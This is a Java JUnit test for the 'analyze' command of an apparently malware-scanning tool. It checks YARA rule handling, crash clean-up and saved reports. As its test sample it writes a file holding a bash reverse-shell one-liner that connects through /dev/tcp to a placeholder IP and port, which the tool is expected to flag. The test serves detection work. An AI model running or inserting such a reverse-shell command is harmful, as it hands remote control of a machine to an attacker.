package dev.kiroku.it;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.HexFormat;

import static org.assertj.core.api.Assertions.assertThat;

/** {@code kiroku analyze FILE} as a user runs it: verdict and reasons printed, YARA rule files, the report kept, crash clean-up at start. */
class AnalyzeCommandTest {
    @TempDir
    Path home;
    private String previousHome;

    @BeforeEach
    void home() {
        previousHome = System.getProperty("kiroku.home");
        System.setProperty("kiroku.home", home.toString());
    }

    @AfterEach
    void restore() {
        if (previousHome == null) System.clearProperty("kiroku.home");
        else System.setProperty("kiroku.home", previousHome);
    }

    @Test
    void staticAnalysisWithConfiguredYaraRulesAndALeftoverFromACrash() throws Exception {
        Path sample = Files.writeString(home.resolve("revshell.sh"), "#!/bin/bash\n# KIROKU-SITE-MARKER\nbash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n");
        Path rules = Files.createDirectories(home.resolve("rules"));
        Files.writeString(rules.resolve("site.yar"), "rule site_marker { meta: weight = 5 strings: $m = \"KIROKU-SITE-MARKER\" condition: $m }\n");
        Files.writeString(rules.resolve("broken.yar"), "rule broken { condition: nope }\n");
        Process gone = new ProcessBuilder("true").start();
        gone.waitFor();
        Path leftover = Files.createDirectories(home.resolve("var/sandbox/runs/kiroku-sbx-" + gone.pid() + "-1/scratch"));

        CommandLineTest.Run run = CommandLineTest.kiroku("analyze", sample.toString(), "--no-detonate", "--yara", rules.toString());

        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(run.out()).startsWith("HIGH  revshell.sh").contains("static.yara.kiroku_reverse_shell_dev_tcp", "static.yara.site_marker",
                "rule set " + rules.resolve("site.yar"));
        assertThat(run.err()).contains("YARA rules skipped: ").contains("broken.yar")
                .contains("crash clean-up: deleted work directory " + leftover.getParent());
        assertThat(leftover.getParent()).doesNotExist();
        String sha256 = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(sample)));
        assertThat(home.resolve("var/sandbox/reports/" + sha256 + ".json")).content().contains("\"verdict\"");
    }
}
